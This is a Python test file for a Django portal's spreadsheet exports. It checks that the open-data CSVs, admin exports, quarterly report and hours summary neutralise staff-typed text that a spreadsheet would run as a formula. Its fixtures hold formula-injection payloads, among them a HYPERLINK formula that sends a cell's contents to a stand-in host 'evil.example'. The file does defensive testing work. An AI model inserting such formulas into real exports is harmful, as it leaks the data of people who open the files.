"""Every spreadsheet the portal writes neutralises staff text a spreadsheet would run as a formula
(issue 16): the open-data CSVs anyone downloads, the admin exports, the quarterly report and the
hours summary all pass their cells through ``core.importing.neutralise_formula``."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse
from import_export.formats.base_formats import CSV, XLSX
from rest_framework.test import APIClient

from organizations.models import Community
from organizations.tests.factories import ServiceCenterFactory
from projects.models import SecretaryProject
from projects.resources import SecretaryProjectResource, quarterly_report
from projects.tests.factories import SecretaryProjectFactory, WorkItemFactory, WorkPlanFactory, WorkThemeFactory
from volunteers.resources import hours_summary_xlsx

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+1",
    "-1",
    "@x",
    "\t=1+2",
    "\r=1+2",
]
# A plan's short title holds 40 characters at most.
SHORT_TITLE = '=HYPERLINK("http://evil.example","点我")'


def _csv_cells(response) -> set[str]:
    assert response.status_code == 200, response.content[:200]
    rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
    return {cell for row in rows for cell in row}


def _xlsx_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_neutralised_csv(cells: set[str]) -> None:
    for text in HOSTILE:
        assert text not in cells, text
        assert "'" + text in cells, text


def _assert_neutralised_xlsx(content: bytes) -> None:
    cells = _xlsx_cells(content)
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    values = {cell.value.replace("\r\n", "\n") for cell in cells if isinstance(cell.value, str)}
    for text in HOSTILE:
        # xlsx stores a carriage return as a line feed; the apostrophe is what matters
        assert "'" + text.replace("\r", "\n") in values or "'" + text in values, text
        assert not {value for value in values if value.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))}


@pytest.fixture
def hostile_projects(guicheng):
    # one project a year per community
    communities = Community.objects.filter(street=guicheng).order_by("pk")[: len(HOSTILE)]
    return [
        SecretaryProjectFactory(community=place, year=2023, title=text)
        for place, text in zip(communities, HOSTILE, strict=True)
    ]


def test_the_open_data_csvs_neutralise_formulas(guicheng, community, hostile_projects):
    # given projects, 730 items and centres whose staff-typed text starts a formula
    plan = WorkPlanFactory(street=guicheng, year=2031, is_public=True)
    for number, text in enumerate(HOSTILE, start=1):
        WorkItemFactory(theme=WorkThemeFactory(plan=plan, number=number), title=text, lead_unit=text)
        ServiceCenterFactory(community=community("桂花社区"), name=f"中心{number}", address=text, is_published=True)
    anonymous = APIClient()

    # when anyone downloads the open data, then no cell starts a formula
    _assert_neutralised_csv(_csv_cells(anonymous.get(reverse("api:open-projects-csv"), {"year": 2023})))
    _assert_neutralised_csv(_csv_cells(anonymous.get(reverse("api:open-plan-csv"), {"year": 2031})))
    _assert_neutralised_csv(_csv_cells(anonymous.get(reverse("api:open-centers-csv"))))
    # and numbers stay numbers
    rows = list(csv.reader(io.StringIO(anonymous.get(reverse("api:open-projects-csv")).content.decode("utf-8-sig"))))
    assert all(row[0].isdigit() for row in rows[1:])


@pytest.mark.parametrize("file_format", [XLSX, CSV])
def test_the_admin_export_neutralises_formulas(street_client, hostile_projects, file_format):
    prefix = SecretaryProjectResource.__name__.lower()
    data = {"resource": "0", "format": str(settings.IMPORT_EXPORT_FORMATS.index(file_format))}
    data |= {f"{prefix}_{name}": "on" for name in SecretaryProjectResource().get_export_order()}

    response = street_client.post(reverse("admin:projects_secretaryproject_export"), data)

    assert response.status_code == 200, response.content[:300]
    if file_format is XLSX:
        _assert_neutralised_xlsx(response.content)
    else:
        _assert_neutralised_csv(_csv_cells(response))


def test_the_quarterly_report_neutralises_formulas(street_staff, guicheng, hostile_projects):
    # given a plan whose short title (on the totals line) and themes start formulas
    plan = WorkPlanFactory(street=guicheng, year=2023, short_title=SHORT_TITLE)
    for number, text in enumerate(HOSTILE, start=1):
        WorkItemFactory(theme=WorkThemeFactory(plan=plan, number=number, title=text), title=text)
    assert SecretaryProject.objects.filter(title__in=HOSTILE).count() == len(HOSTILE)

    _, content = quarterly_report(user=street_staff, street=guicheng, year=2023, today=date(2023, 8, 10))

    _assert_neutralised_xlsx(content)
    totals = openpyxl.load_workbook(io.BytesIO(content))["730主题"]
    assert totals.cell(totals.max_row, 2).value == f"'{SHORT_TITLE}（合计）"


def test_the_hours_summary_neutralises_formulas():
    rows = [{"label": text, "records": 1, "volunteers": 1, "hours": Decimal("1.5")} for text in HOSTILE]

    content = hours_summary_xlsx(rows=rows, group_label="服务队", start=None, end=None)

    _assert_neutralised_xlsx(content)
